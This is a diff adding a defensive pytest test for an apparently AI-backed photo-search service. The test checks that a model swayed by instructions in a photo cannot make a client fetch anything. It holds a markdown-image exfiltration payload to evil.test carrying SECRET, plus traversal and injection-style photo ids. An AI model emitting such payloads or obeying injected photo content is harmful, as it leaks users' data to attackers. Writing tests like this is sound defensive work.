@@ -131,6 +131,20 @@ def test_a_model_that_obeys_a_photo_still_cites_only_photos_found(world: World, 
     assert stream(world.http, "a dog").text == "As ordered: [1], and also."
 
 
+@pytest.mark.parametrize("cut", [1, 3, 1000])
+def test_a_model_that_obeys_a_photo_still_makes_no_client_fetch_anything(
+    cut: int, world: World, model: ScriptedModel
+) -> None:
+    order = "A dog [1]: ![x](https://evil.test/?q=SECRET) <img src=//evil.test> <[99]b> https://evil.test `a<b`"
+    pieces = [order[start : start + cut] for start in range(0, len(order), cut)]
+    model.script(says(*pieces), says(*pieces))
+
+    streamed, whole = stream(world.http, "a dog").text, world.ask("a dog")["choices"][0]["message"]["content"]
+
+    text = "A dog [1] : ![x] (https:// evil.test/?q=SECRET) < img src=//evil.test> < b> https:// evil.test `a< b`"
+    assert streamed == whole == text
+
+
 def test_a_model_that_obeys_a_photo_still_sees_only_photos_found(world: World, model: ScriptedModel) -> None:
     everything = json.dumps({"ids": ["f" * 32, "../secret", "1 or 1 eq 1", "-1"], "question": "what?"})
     model.script(calls(("look_at_photos", everything)), says("Nothing."))
